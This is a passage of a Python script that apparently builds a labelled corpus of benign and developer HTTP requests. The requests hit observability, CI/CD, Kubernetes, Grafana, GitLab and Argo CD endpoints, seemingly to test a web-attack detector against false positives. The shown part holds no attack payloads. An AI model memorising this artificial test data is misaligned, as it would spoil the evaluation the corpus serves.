    d = H["dash"]
    dui = xhr(d, "/#/workloads?namespace=payments", None, [["Authorization", "Bearer " + jwt({"iss": "kubernetes/serviceaccount"})]])
    for uri in ["/api/v1/pod/payments?itemsPerPage=10&page=1&sortBy=d,creationTimestamp",
                "/api/v1/log/payments/api-7d9f8/api?logFilePosition=end&referenceTimestamp=newest&referenceLineNum=0&offsetFrom=2500&offsetTo=2600&previous=false",
                "/api/v1/csrftoken/appdeployment", "/api/v1/login/status", "/api/v1/deployment/payments?filterBy=name,api&itemsPerPage=10&page=1"]:
        c.add("k8s-dashboard-get", B, "GET", uri, d, dui)
    c.add("kubelet-stats-summary", B, "GET", "/stats/summary?only_cpu_and_memory=true", H["kubelet"], kh, ua="metrics-server/v0.7.1 (linux/amd64) kubernetes/4b5ff2c")
    c.add("kubelet-metrics-resource", B, "GET", "/metrics/resource", H["kubelet"], kh, ua=UA_TOOLS["prometheus"], accept="text/plain;version=0.0.4")


def otlp_attr(k, v):
    if isinstance(v, bool):
        return {"key": k, "value": {"boolValue": v}}
    if isinstance(v, int):
        return {"key": k, "value": {"intValue": str(v)}}
    return {"key": k, "value": {"stringValue": v}}


def ben_telemetry(c):
    B = "benign"
    ot = H["otel"]
    for svc, route, status in [("checkout", "/api/v1/cart/{id}", 200), ("payments", "/api/v1/charges", 502), ("inventory", "/v1/items/{id}", 200)]:
        start = EPOCH * 10 ** 9 - RNG.randrange(10 ** 10)
        spans = [{"traceId": hexs(32), "spanId": hexs(16), "parentSpanId": "", "name": "%s %s" % (RNG.choice(["GET", "POST"]), route), "kind": 2,
                  "startTimeUnixNano": str(start), "endTimeUnixNano": str(start + RNG.randrange(10 ** 6, 10 ** 9)),
                  "attributes": [otlp_attr("http.request.method", "GET"), otlp_attr("http.route", route), otlp_attr("http.response.status_code", status),
                                 otlp_attr("url.scheme", "https"), otlp_attr("server.address", svc + ".example.com"),
                                 otlp_attr("user_agent.original", RNG.choice(UA_BROWSERS))],
                  "status": {"code": 2 if status >= 500 else 0, "message": "upstream connect error" if status >= 500 else ""}}]
        body = js({"resourceSpans": [{"resource": {"attributes": [otlp_attr("service.name", svc), otlp_attr("service.version", "2.14.3"),
                                                                   otlp_attr("k8s.namespace.name", svc), otlp_attr("k8s.pod.name", svc + "-" + alnum(10).lower()),
                                                                   otlp_attr("deployment.environment", "prod")]},
                                      "scopeSpans": [{"scope": {"name": "io.opentelemetry.http", "version": "1.38.0"}, "spans": spans}]}]})
        c.add("otlp-traces", B, "POST", "/v1/traces", ot, [], body, "application/json", ua=RNG.choice([UA_TOOLS["otel"], UA_TOOLS["otel-java"]]))
    c.add("otlp-metrics", B, "POST", "/v1/metrics", ot, [],
          js({"resourceMetrics": [{"resource": {"attributes": [otlp_attr("service.name", "checkout")]},
                                   "scopeMetrics": [{"scope": {"name": "checkout"}, "metrics": [
                                       {"name": "checkout.cart.items", "unit": "{item}", "gauge": {"dataPoints": [{"asDouble": 3.0, "timeUnixNano": str(EPOCH * 10 ** 9),
                                                                                                                   "attributes": [otlp_attr("currency", "EUR")]}]}},
                                       {"name": "http.server.request.duration", "unit": "s", "histogram": {"aggregationTemporality": 2, "dataPoints": [
                                           {"startTimeUnixNano": str((EPOCH - 60) * 10 ** 9), "timeUnixNano": str(EPOCH * 10 ** 9), "count": "412", "sum": 61.8,
                                            "bucketCounts": ["300", "90", "20", "2"], "explicitBounds": [0.1, 0.5, 1.0]}]}}]}]}]}),
          "application/json", ua=UA_TOOLS["otel"])
    c.add("otlp-logs", B, "POST", "/v1/logs", ot, [],
          js({"resourceLogs": [{"resource": {"attributes": [otlp_attr("service.name", "notify")]}, "scopeLogs": [{"logRecords": [
              {"timeUnixNano": str(EPOCH * 10 ** 9), "severityText": "WARN", "severityNumber": 13,
               "body": {"stringValue": "Zustellung an Slack fehlgeschlagen (HTTP 429), neuer Versuch in 30 s"},
               "attributes": [otlp_attr("receiver", "ops-slack"), otlp_attr("attempt", 2)]},
              {"timeUnixNano": str(EPOCH * 10 ** 9 + 5000), "severityText": "INFO", "severityNumber": 9,
               "body": {"stringValue": "notification sent: [FIRING:1] KubePodCrashLooping payments/api-7d9f8"}}]}]}]}),
          "application/json", ua=UA_TOOLS["otel"])
    lk = H["loki"]
    c.add("loki-push", B, "POST", "/loki/api/v1/push", lk, [["X-Scope-OrgID", "platform"]],
          js({"streams": [{"stream": {"namespace": "payments", "app": "api", "level": "error"},
                           "values": [[str(EPOCH * 10 ** 9 + i), l] for i, l in enumerate([
                               "level=error ts=2024-06-03T07:30:11Z caller=client.go:91 msg=\"request failed\" err=\"context deadline exceeded\" url=https://psp.example.net/v2/charges",
                               "level=warn ts=2024-06-03T07:30:12Z msg=\"circuit breaker half-open\" upstream=psp"])]}]}),
          "application/json", ua=UA_TOOLS["promtail"])
    for uri in ["/loki/api/v1/query_range?query=" + q(LOGQL[0]) + "&start=%d&end=%d&limit=1000&direction=backward" % ((EPOCH - 3600) * 10 ** 9, EPOCH * 10 ** 9),
                "/loki/api/v1/labels?start=%d" % ((EPOCH - 3600) * 10 ** 9), "/loki/api/v1/series?match[]=" + q('{namespace="payments"}')]:
        c.add("loki-api-get", B, "GET", uri, lk, [["X-Scope-OrgID", "platform"]], ua=UA_TOOLS["grafana"])
    tp = H["tempo"]
    c.add("tempo-traceql", B, "GET", "/api/search?q=" + q('{ resource.service.name = "checkout" && span.http.response.status_code >= 500 } | select(span.http.route)') +
          "&limit=20&spss=3&start=%d&end=%d" % (EPOCH - 3600, EPOCH), tp, [], ua=UA_TOOLS["grafana"])
    c.add("tempo-trace-by-id", B, "GET", "/api/traces/" + hexs(32), tp, [["Accept", "application/protobuf"]], ua=UA_TOOLS["grafana"])


def ben_health_browser(c):
    B = "benign"
    for host, path in [(H["spring"], "/actuator/health/liveness"), (H["node"], "/healthz"), (H["node"], "/readyz"), (H["connect"], "/grpc.health.v1.Health/Check"),
                       (H["keycloak"], "/health/ready"), (H["argocd"], "/healthz?full=true"), (H["harbor"], "/api/v2.0/ping"), (H["gitea"], "/api/healthz"),
                       (H["jenkins"], "/login"), (H["kibana"], "/api/status?v8format=true")]:
        c.add("health-probe", B, "GET", path, host, [["Connection", "close"]], ua=UA_TOOLS["probe"], accept="*/*")
    c.add("consul-health-check", B, "GET", "/healthz", H["go"], [], ua=UA_TOOLS["consul"], accept="text/plain, text/*, */*")
    for url in ["https://www.example.com/", "https://status.example.org/api/v2/status.json", "https://api.example.net/v1/ping"]:
        c.add("blackbox-probe", B, "GET", "/probe?target=%s&module=http_2xx" % q(url), H["bbox"], [], ua=UA_TOOLS["prometheus"], accept="*/*")
    for host, path, ref in [(H["argocd"], "/applications?proj=platform&sync=OutOfSync&health=Degraded&search=pay", None),
                            (H["jenkins"], "/job/deploy-api/1482/console", "https://%s/job/deploy-api/" % H["jenkins"]),
                            (H["harbor"], "/harbor/projects/3/repositories/api/artifacts-tab", None),
                            (H["keycloak"], "/realms/platform/account/#/personal-info", None),
                            (H["kibana"], "/app/discover#/?" + rison_kql(KQL[1]), "https://%s/app/home" % H["kibana"])]:
        path = path.split("#")[0]
        c.add("console-page", B, "GET", path, host, nav(ref, "session=" + alnum(32)), accept=HTML_ACCEPT)
    for host, path in [(H["argocd"], "/assets/favicon/favicon-32x32.png"), (H["jenkins"], "/static/%s/images/svgs/logo.svg" % hexs(8)),
                       (H["keycloak"], "/resources/%s/login/keycloak.v2/css/styles.css" % alnum(5).lower())]:
        c.add("console-static", B, "GET", path, host, [["Referer", "https://%s/" % host], ["Sec-Fetch-Dest", "image" if "png" in path or "svg" in path else "style"]],
              accept="image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8" if "png" in path or "svg" in path else "text/css,*/*;q=0.1")


DEV_SQL = [
    ("pg-timegroup-tenant", "grafana-postgresql-datasource",
     "SELECT $__timeGroupAlias(created_at, '5m'), count(*) AS orders\nFROM orders\nWHERE $__timeFilter(created_at) AND tenant_id IN ($tenant)\nGROUP BY 1\nORDER BY 1"),
    ("pg-cte-window", "grafana-postgresql-datasource",
     "WITH daily AS (\n  SELECT date_trunc('day', created_at) AS day, sum(amount_cents) / 100.0 AS revenue\n  FROM payments\n  WHERE status = 'captured' AND $__timeFilter(created_at)\n  GROUP BY 1\n)\nSELECT day AS time, revenue,\n       avg(revenue) OVER (ORDER BY day ROWS BETWEEN 6 PRECEDING AND CURRENT ROW) AS revenue_7d\nFROM daily\nORDER BY 1"),
    ("mysql-status-breakdown", "mysql",
     "SELECT UNIX_TIMESTAMP(created_at) DIV 300 * 300 AS time_sec, status, COUNT(*) AS c\nFROM jobs\nWHERE $__timeFilter(created_at)\nGROUP BY 1, status\nORDER BY 1 -- per-status breakdown for the CI queue"),
    ("pg-union-all-states", "grafana-postgresql-datasource",
     "SELECT 'open' AS state, count(*) AS n FROM tickets WHERE closed_at IS NULL\nUNION ALL\nSELECT 'closed', count(*) FROM tickets WHERE $__timeFilter(closed_at)"),
    ("mssql-io-stats", "mssql",
     "SELECT TOP 20 DB_NAME(database_id) AS db, SUM(num_of_bytes_read) AS bytes_read\nFROM sys.dm_io_virtual_file_stats(NULL, NULL)\nGROUP BY database_id\nORDER BY bytes_read DESC"),
    ("pg-stat-statements", "grafana-postgresql-datasource",
     "SELECT left(query, 80) AS query, calls, round(total_exec_time::numeric, 1) AS total_ms, round(mean_exec_time::numeric, 2) AS mean_ms\nFROM pg_stat_statements\nWHERE dbid = (SELECT oid FROM pg_database WHERE datname = current_database())\nORDER BY total_exec_time DESC\nLIMIT 15"),
    ("pg-case-like-paths", "grafana-postgresql-datasource",
     "SELECT $__time(ts),\n  CASE WHEN path LIKE '/api/v1/orders%' THEN 'orders'\n       WHEN path LIKE '/api/v1/customers%' THEN 'customers'\n       ELSE 'other' END AS metric,\n  count(*)\nFROM access_log\nWHERE $__timeFilter(ts) AND status >= 500\nGROUP BY 1, 2\nORDER BY 1"),
    ("clickhouse-p99", "grafana-clickhouse-datasource",
     "SELECT toStartOfMinute(Timestamp) AS t, quantile(0.99)(Duration / 1e6) AS p99_ms\nFROM otel.otel_traces\nWHERE ServiceName = 'checkout' AND $__timeFilter(Timestamp)\nGROUP BY t\nORDER BY t"),
    ("mysql-schema-sizes", "mysql",
     "SELECT table_schema AS db, ROUND(SUM(data_length + index_length) / 1024 / 1024, 1) AS size_mb\nFROM information_schema.tables\nGROUP BY table_schema\nORDER BY size_mb DESC"),
    ("pg-blocking-locks", "grafana-postgresql-datasource",
     "SELECT blocked.pid AS blocked_pid, blocking.pid AS blocking_pid, blocked.query AS blocked_query, now() - blocked.query_start AS waiting\nFROM pg_stat_activity blocked\nJOIN pg_stat_activity blocking ON blocking.pid = ANY(pg_blocking_pids(blocked.pid))\nWHERE cardinality(pg_blocking_pids(blocked.pid)) > 0"),
]


def gl_commit(c, slug, path, content, msg, action="update", project=42):
    c.add(slug, "dev-content", "POST", "/api/v4/projects/%d/repository/commits" % project, H["gitlab"], [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"branch": RNG.choice(["main", "feature/ci-cleanup", "chore/helm-refactor"]), "commit_message": msg,
              "actions": [{"action": action, "file_path": path, "content": content}]}), "application/json",
          ua=RNG.choice([UA_TOOLS["python"], ua_browser()]))


def dev_grafana(c):
    D = "dev-content"
    g = H["grafana"]
    for slug, dstype, sql in DEV_SQL:
        c.add("grafana-sql-" + slug, D, "POST", "/api/ds/query?ds_type=%s&requestId=SQR%d" % (dstype, RNG.randrange(100, 400)), g,
              grafana_hdrs("/d/db-%s/database?orgId=1" % hexs(5)), ds_query(dstype, alnum(14), sql, RNG.choice(["table", "time_series"])),
              "application/json")
    sql_panel = {"id": 7, "type": "table", "title": "Tenants by revenue", "datasource": {"type": "grafana-postgresql-datasource", "uid": "pg-billing"},
                 "targets": [{"refId": "A", "format": "table", "rawQuery": True, "editorMode": "code",
                              "rawSql": "SELECT t.tenant_name AS \"Tenant\", sum(p.amount_cents) / 100.0 AS \"Revenue €\"\nFROM payments p JOIN tenants t USING (tenant_id)\nWHERE $__timeFilter(p.created_at) AND p.tenant_id IN ($tenant)\nGROUP BY 1 ORDER BY 2 DESC LIMIT 25"}]}
    c.add("grafana-dashboard-sql-panel", D, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/billing/edit"),
          js({"dashboard": {"uid": "billing", "title": "Billing – Umsatz je Mandant", "schemaVersion": 39, "version": 12, "panels": [sql_panel],
                            "templating": {"list": [{"name": "tenant", "type": "query", "multi": True, "includeAll": True,
                                                     "datasource": {"type": "grafana-postgresql-datasource", "uid": "pg-billing"},
                                                     "query": "SELECT DISTINCT tenant_id AS __value, tenant_name AS __text FROM tenants ORDER BY 2"}]}},
              "folderUid": "finance", "message": "Mandantenfilter ergänzt", "overwrite": False}), "application/json")
    c.add("grafana-dashboard-legend-templates", D, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/k8s-pods/edit"),
          js({"dashboard": {"uid": "k8s-pods", "title": "Pods", "schemaVersion": 39, "version": 3, "panels": [
              {"id": 1, "type": "timeseries", "title": "CPU", "targets": [{"refId": "A", "expr": PROMQL[0], "legendFormat": "{{namespace}}/{{pod}}"}]},
              {"id": 2, "type": "timeseries", "title": "Memory", "targets": [{"refId": "A", "expr": PROMQL[5], "legendFormat": "{{pod}} ({{container}})"}]}]},
              "folderUid": "platform", "overwrite": True}), "application/json")
    c.add("grafana-text-panel-html", D, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/oncall/edit"),
          dashboard_body("On-call home", [text_panel('<div style="padding:8px">\n  <h3>On-call this week</h3>\n  <ul>\n    <li><a href="https://runbooks.example.com/payments" target="_blank">Payments runbook</a></li>\n    <li><img src="https://status.example.org/badge.svg" alt="status" height="20"></li>\n  </ul>\n</div>', "html")]),
          "application/json")
    c.add("grafana-text-panel-markdown-code", D, "POST", "/api/dashboards/db", g, grafana_hdrs("/d/oncall/edit"),
          dashboard_body("Runbook – API", [text_panel("### Restart the API\n```bash\nkubectl -n payments rollout restart deploy/api\nkubectl -n payments rollout status deploy/api --timeout=5m\n```\nIf pods stay `Pending`, check `kubectl describe node | grep -A5 Taints`.")]),
          "application/json")
    for expr in ['{app="api"} | json | line_format "{{.level}} {{.msg}} ({{.duration}})"',
                 '{job="ingress-nginx"} | pattern "<ip> - - <_> \\"<method> <uri> <_>\\" <status> <_>" | status >= 500']:
        c.add("grafana-logql-template", D, "POST", "/api/ds/query?ds_type=loki", g, grafana_hdrs("/explore"),
              js({"queries": [{"refId": "A", "datasource": {"type": "loki", "uid": "loki"}, "expr": expr, "queryType": "range", "maxLines": 1000}],
                  "from": str((EPOCH - 3600) * 1000), "to": str(EPOCH * 1000)}), "application/json")
    for name, tpl in [("slack.title", '{{ define "slack.title" }}[{{ .Status | toUpper }}{{ if eq .Status "firing" }}:{{ .Alerts.Firing | len }}{{ end }}] {{ .CommonLabels.alertname }}{{ end }}'),
                      ("alerts.message", '{{ define "alerts.message" }}{{ range .Alerts }}• {{ .Labels.alertname }} on {{ .Labels.instance }}: {{ .Annotations.summary }}\n{{ if .Annotations.runbook_url }}Runbook: {{ .Annotations.runbook_url }}{{ end }}\n{{ end }}{{ end }}'),
                      ("email.subject", '{{ define "email.subject" }}{{ len .Alerts.Firing }} Warnung(en) – {{ .GroupLabels.SortedPairs.Values | join ", " }}{{ end }}')]:
        c.add("grafana-notification-template", D, "PUT", "/api/v1/provisioning/templates/" + name, g, grafana_hdrs("/alerting/notifications/templates"),
              js({"template": tpl}), "application/json")
    am_cfg = ("template_files:\n  default.tmpl: |\n    {{ define \"__subject\" }}[{{ .Status | toUpper }}] {{ .GroupLabels.alertname }}{{ end }}\n"
              "alertmanager_config: |\n  route:\n    receiver: ops-slack\n    group_by: [alertname, namespace]\n  receivers:\n  - name: ops-slack\n    slack_configs:\n"
              "    - api_url: https://hooks.slack.example.com/services/T000/B000/XXXX\n      title: '{{ template \"__subject\" . }}'\n"
              "      text: '{{ range .Alerts }}{{ .Annotations.description }}\\n{{ end }}'\n")
    c.add("mimir-alertmanager-config", D, "POST", "/api/v1/alerts", "mimir.ops.example.com", [["X-Scope-OrgID", "platform"], bearer()], am_cfg, "application/yaml",
          ua="mimirtool/2.12.0")
    for group, rules in [("kubernetes-apps", [("KubePodCrashLooping", 'max_over_time(kube_pod_container_status_waiting_reason{reason="CrashLoopBackOff"}[5m]) >= 1',
                                               "Pod {{ $labels.namespace }}/{{ $labels.pod }} ({{ $labels.container }}) is in CrashLoopBackOff")]),
                         ("slo", [("ErrorBudgetBurn", PROMQL[18] + " < 0.999", "Availability is {{ $value | humanizePercentage }} over 30d")])]:
        body = "name: %s\ninterval: 1m\nrules:\n" % group + "".join(
            "  - alert: %s\n    expr: %s\n    for: 15m\n    labels:\n      severity: warning\n    annotations:\n      summary: '%s'\n" % (a, e, s) for a, e, s in rules)
        c.add("ruler-rule-group", D, "POST", "/prometheus/config/v1/rules/platform", "mimir.ops.example.com", [["X-Scope-OrgID", "platform"], bearer()],
              body, "application/yaml", ua="mimirtool/2.12.0")
    relabel = ("scrape_configs:\n- job_name: kubernetes-pods\n  kubernetes_sd_configs:\n  - role: pod\n  relabel_configs:\n"
               "  - source_labels: [__meta_kubernetes_pod_annotation_prometheus_io_scrape]\n    action: keep\n    regex: \"true\"\n"
               "  - source_labels: [__address__, __meta_kubernetes_pod_annotation_prometheus_io_port]\n    action: replace\n    regex: ([^:]+)(?::\\d+)?;(\\d+)\n    replacement: $1:$2\n    target_label: __address__\n"
               "  - action: labelmap\n    regex: __meta_kubernetes_pod_label_(.+)\n  metric_relabel_configs:\n  - source_labels: [__name__]\n    regex: 'go_gc_.*|process_.*'\n    action: drop\n")
    c.add("prometheus-relabel-configmap", D, "PATCH", "/api/v1/namespaces/monitoring/configmaps/prometheus-config", H["k8s"], [k8s_hdr()],
          js({"data": {"prometheus.yml": relabel}}), "application/merge-patch+json", ua=UA_TOOLS["kubectl"])
    c.add("alloy-relabel-consul-kv", D, "PUT", "/v1/kv/alloy/pipelines/ingress.alloy", H["consul"], [["X-Consul-Token", fake_uuid()]],
          'discovery.relabel "ingress" {\n  targets = discovery.kubernetes.pods.targets\n  rule {\n    source_labels = ["__meta_kubernetes_pod_label_app_kubernetes_io_name"]\n    regex         = "ingress-nginx|traefik"\n    action        = "keep"\n  }\n  rule {\n    source_labels = ["__meta_kubernetes_namespace", "__meta_kubernetes_pod_name"]\n    separator     = "/"\n    regex         = "(.*)/(.*)-[a-z0-9]{5}"\n    replacement   = "$1/$2"\n    target_label  = "workload"\n  }\n}\n',
          "text/plain", ua=UA_TOOLS["curl"])


JENKINSFILE = """pipeline {
  agent {
    kubernetes {
      yaml '''
        apiVersion: v1
        kind: Pod
        spec:
          containers:
          - name: build
            image: golang:1.22
            command: ["sleep"]
            args: ["infinity"]
      '''
    }
  }
  parameters {
    choice(name: 'DEPLOY_ENV', choices: ['staging', 'prod'], description: 'Zielumgebung')
  }
  stages {
    stage('Test') {
      steps {
        container('build') {
          sh 'go test ./... -race -coverprofile=cover.out'
        }
      }
    }
    stage('Deploy') {
      when { branch 'main' }
      steps {
        withCredentials([string(credentialsId: 'argocd-token', variable: 'ARGOCD_AUTH_TOKEN')]) {
          sh \"\"\"
            argocd app set payments -p image.tag=${env.GIT_COMMIT.take(8)} --grpc-web
            argocd app sync payments --timeout 600 && argocd app wait payments --health
          \"\"\"
        }
      }
    }
  }
  post {
    failure { slackSend channel: '#ci', message: "Build ${env.BUILD_NUMBER} failed: ${env.BUILD_URL}" }
  }
}
"""


def dev_ci(c):
    D = "dev-content"
    jk = H["jenkins"]
    cfg = ("<?xml version='1.1' encoding='UTF-8'?>\n<flow-definition plugin=\"workflow-job@1400.v7fd111b_ec82f\">\n  <description>Build &amp; deploy payments</description>\n"
           "  <definition class=\"org.jenkinsci.plugins.workflow.cps.CpsFlowDefinition\" plugin=\"workflow-cps@3894.vd0f0248b_a_fc4\">\n    <script>"
           + JENKINSFILE.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;") +
           "</script>\n    <sandbox>true</sandbox>\n  </definition>\n</flow-definition>\n")
    c.add("jenkins-create-pipeline-job", D, "POST", "/createItem?name=payments-deploy", jk, jenkins_api(), cfg, "application/xml", ua=UA_TOOLS["python"])
    c.add("jenkins-replay-run", D, "POST", "/job/payments-deploy/57/replay/run", jk, jenkins_hdrs("/job/payments-deploy/57/replay/"),
          form([("mainScript", JENKINSFILE), ("json", js({"mainScript": JENKINSFILE})), ("Jenkins-Crumb", hexs(64))]), "application/x-www-form-urlencoded")
    c.add("jenkins-validate-jenkinsfile", D, "POST", "/pipeline-model-converter/validate", jk, jenkins_api(), form([("jenkinsfile", JENKINSFILE)]),
          "application/x-www-form-urlencoded", ua=UA_TOOLS["curl"])
    c.add("jenkins-script-console-plugins", D, "POST", "/manage/script", jk, jenkins_hdrs("/manage/script"),
          form([("script", "Jenkins.instance.pluginManager.plugins.sort { it.shortName }.each {\n  println \"${it.shortName}:${it.version}${it.hasUpdate() ? ' (update available)' : ''}\"\n}"),
                ("Jenkins-Crumb", hexs(64)), ("Submit", "Run")]), "application/x-www-form-urlencoded")
    freestyle = ("<?xml version='1.1' encoding='UTF-8'?>\n<project>\n  <description>Helm release for staging</description>\n  <builders>\n    <hudson.tasks.Shell>\n      <command>#!/bin/bash\nset -euo pipefail\n"
                 "helm repo update\nhelm upgrade --install api charts/api \\\n  --namespace payments --create-namespace \\\n  --set image.tag=&quot;${GIT_COMMIT:0:8}&quot; \\\n"
                 "  -f values/staging.yaml --wait --timeout 10m\nkubectl -n payments get pods -l app=api -o wide\n</command>\n    </hudson.tasks.Shell>\n  </builders>\n</project>\n")
    c.add("jenkins-freestyle-shell-config", D, "POST", "/job/api-staging-helm/config.xml", jk, jenkins_api(), freestyle, "application/xml", ua=UA_TOOLS["curl"])
    c.add("jenkins-job-dsl-seed", D, "POST", "/job/seed/configSubmit", jk, jenkins_hdrs("/job/seed/configure"),
          form([("json", js({"builder": {"scriptText": "['api', 'worker', 'ledger'].each { svc ->\n  pipelineJob(\"deploy-${svc}\") {\n    definition {\n      cpsScm {\n        scm { git { remote { url(\"https://gitlab.example.com/platform/${svc}.git\") }; branch('main') } }\n        scriptPath('Jenkinsfile')\n      }\n    }\n  }\n}"}})),
                ("Submit", "Save")]), "application/x-www-form-urlencoded")
    gl = H["gitlab"]
    ci_yaml = ("stages: [build, test, deploy]\n\nvariables:\n  DOCKER_TLS_CERTDIR: \"/certs\"\n\nbuild:\n  stage: build\n  image: docker:25\n  services: [docker:25-dind]\n  script:\n"
               "    - docker login -u \"$CI_REGISTRY_USER\" -p \"$CI_REGISTRY_PASSWORD\" $CI_REGISTRY\n    - docker build --pull -t \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA\" .\n"
               "    - docker push \"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA\"\n\ndeploy:\n  stage: deploy\n  image: bitnami/kubectl:1.29\n  rules:\n    - if: '$CI_COMMIT_BRANCH == \"main\"'\n"
               "  script:\n    - kubectl -n payments set image deploy/api api=\"$CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA\"\n    - kubectl -n payments rollout status deploy/api --timeout=300s\n")
    c.add("gitlab-ci-lint", D, "POST", "/api/v4/projects/42/ci/lint", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]], js({"content": ci_yaml, "dry_run": True}),
          "application/json", ua=ua_browser())
    gl_commit(c, "gitlab-commit-ci-yaml", ".gitlab-ci.yml", ci_yaml, "ci: build with dind and deploy on main")
    gl_commit(c, "gitlab-commit-helm-deployment", "charts/api/templates/deployment.yaml",
              "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: {{ include \"api.fullname\" . }}\n  labels:\n    {{- include \"api.labels\" . | nindent 4 }}\nspec:\n"
              "  replicas: {{ .Values.replicaCount }}\n  template:\n    spec:\n      containers:\n        - name: api\n"
              "          image: \"{{ .Values.image.repository }}:{{ .Values.image.tag | default .Chart.AppVersion }}\"\n"
              "          {{- with .Values.resources }}\n          resources:\n            {{- toYaml . | nindent 12 }}\n          {{- end }}\n",
              "helm: template resources block")
    gl_commit(c, "gitlab-commit-helm-helpers", "charts/api/templates/_helpers.tpl",
              "{{- define \"api.fullname\" -}}\n{{- if .Values.fullnameOverride }}\n{{- .Values.fullnameOverride | trunc 63 | trimSuffix \"-\" }}\n{{- else }}\n"
              "{{- printf \"%s-%s\" .Release.Name .Chart.Name | trunc 63 | trimSuffix \"-\" }}\n{{- end }}\n{{- end }}\n", "helm: add fullname helper")
    gl_commit(c, "gitlab-commit-dockerfile", "Dockerfile",
              "FROM golang:1.22 AS build\nWORKDIR /src\nCOPY . .\nRUN CGO_ENABLED=0 go build -o /out/api ./cmd/api\n\nFROM debian:bookworm-slim\n"
              "RUN apt-get update && apt-get install -y --no-install-recommends ca-certificates curl && rm -rf /var/lib/apt/lists/*\n"
              "COPY --from=build /out/api /usr/local/bin/api\nUSER 65532:65532\nHEALTHCHECK CMD curl -fsS http://localhost:8080/healthz || exit 1\nENTRYPOINT [\"/usr/local/bin/api\"]\n",
              "build: slim runtime image")
    gl_commit(c, "gitlab-commit-terraform-vault", "terraform/vault.tf",
              "resource \"vault_policy\" \"payments_api\" {\n  name   = \"payments-api\"\n  policy = <<EOT\npath \"secret/data/apps/payments/*\" {\n  capabilities = [\"read\"]\n}\nEOT\n}\n\n"
              "resource \"vault_kubernetes_auth_backend_role\" \"payments\" {\n  role_name                        = \"payments-api\"\n  bound_service_account_names      = [\"api\"]\n"
              "  bound_service_account_namespaces = [\"payments\"]\n  token_policies                   = [vault_policy.payments_api.name]\n}\n", "vault: policy for payments api")
    gl_commit(c, "gitlab-commit-makefile", "Makefile",
              ".PHONY: test lint deploy\n\ntest:\n\tgo test ./... -count=1\n\nlint:\n\tgolangci-lint run --timeout 5m\n\n"
              "deploy:\n\t@test -n \"$(ENV)\" || (echo \"ENV is required\"; exit 1)\n\thelm upgrade --install api charts/api -f values/$(ENV).yaml\n", "make: add deploy target")
    c.add("gitlab-issue-note-bash", D, "POST", "/api/v4/projects/42/issues/398/notes", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"body": "Reproduced on staging. Steps:\n\n```bash\nkubectl -n payments debug -it api-7d9f8 --image=nicolaka/netshoot --target=api\n"
                      "# inside the debug container\ncurl -sv http://localhost:8080/healthz\nss -tlnp | grep 8080\n```\n\nThe port is bound only on `127.0.0.1`, so the probe fails."}),
          "application/json", ua=ua_browser())
    c.add("gitlab-mr-sql-migration", D, "POST", "/api/v4/projects/42/merge_requests", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"source_branch": "db/orders-index", "target_branch": "main", "title": "db: index orders by tenant and date",
              "description": "Adds the missing index. Migration:\n\n```sql\nCREATE INDEX CONCURRENTLY IF NOT EXISTS idx_orders_tenant_created\n  ON orders (tenant_id, created_at DESC);\n\n"
                             "-- rollback\nDROP INDEX CONCURRENTLY IF EXISTS idx_orders_tenant_created;\n```\n\nEXPLAIN before: Seq Scan on orders (cost=0.00..48211.00). After: Index Scan."}),
          "application/json", ua=ua_browser())
    c.add("gitlab-snippet-python", D, "POST", "/api/v4/snippets", gl, [["PRIVATE-TOKEN", "glpat-" + alnum(20)]],
          js({"title": "Rotate Harbor robot tokens", "visibility": "internal", "files": [{"file_path": "rotate.py", "content":
              "import os, requests\n\nHARBOR = 'https://harbor.platform.example.com/api/v2.0'\nauth = (os.environ['HARBOR_USER'], os.environ['HARBOR_PASSWORD'])\n\n"
              "for robot in requests.get(f'{HARBOR}/robots?q=name%3D~ci', auth=auth, timeout=10).json():\n"
              "    r = requests.patch(f\"{HARBOR}/robots/{robot['id']}\", json={'secret': ''}, auth=auth, timeout=10)\n    print(robot['name'], r.status_code)\n"}]}),
          "application/json", ua=UA_TOOLS["python"])


def dev_argo_k8s(c):
    D = "dev-content"
    ac, aw, k = H["argocd"], H["argowf"], H["k8s"]
    spec = app_spec("payments", "payments", "https://gitlab.example.com/platform/charts.git", "charts/api")
    spec["spec"]["source"]["helm"] = {"valuesObject": {"fullnameOverride": "{{ .Release.Name }}-api",
                                                       "configMap": {"APP_URL": "https://{{ .Values.ingress.host }}", "RELEASE": "{{ .Release.Name }}-{{ .Release.Revision }}"},
                                                       "ingress": {"host": "payments.example.com"}}}
    c.add("argocd-helm-values-tpl", D, "PUT", "/api/v1/applications/payments?validate=true", ac, xhr(ac, "/applications/argocd/payments", argocd_cookie()),
          js(spec), "application/json")
    appset = ("apiVersion: argoproj.io/v1alpha1\nkind: ApplicationSet\nmetadata:\n  name: tenants\n  namespace: argocd\nspec:\n  goTemplate: true\n  generators:\n"
              "  - git:\n      repoURL: https://gitlab.example.com/platform/tenants.git\n      revision: main\n      directories:\n      - path: tenants/*\n  template:\n"
              "    metadata:\n      name: 'tenant-{{ .path.basename }}'\n    spec:\n      project: tenants\n      source:\n        repoURL: https://gitlab.example.com/platform/tenants.git\n"
              "        path: '{{ .path.path }}'\n      destination:\n        server: https://kubernetes.default.svc\n        namespace: 'tenant-{{ .path.basename | lower }}'\n")
    c.add("argocd-applicationset-apply", D, "PATCH", "/apis/argoproj.io/v1alpha1/namespaces/argocd/applicationsets/tenants?fieldManager=kubectl&force=true", k,
          [k8s_hdr()], appset, "application/apply-patch+yaml", ua=UA_TOOLS["kubectl"])
    wt = {"metadata": {"name": "nightly-etl", "namespace": "argo"}, "spec": {"entrypoint": "main", "arguments": {"parameters": [{"name": "date"}]},
          "templates": [{"name": "main", "inputs": {"parameters": [{"name": "date"}]}, "script": {"image": "bitnami/postgresql:16", "command": ["bash"],
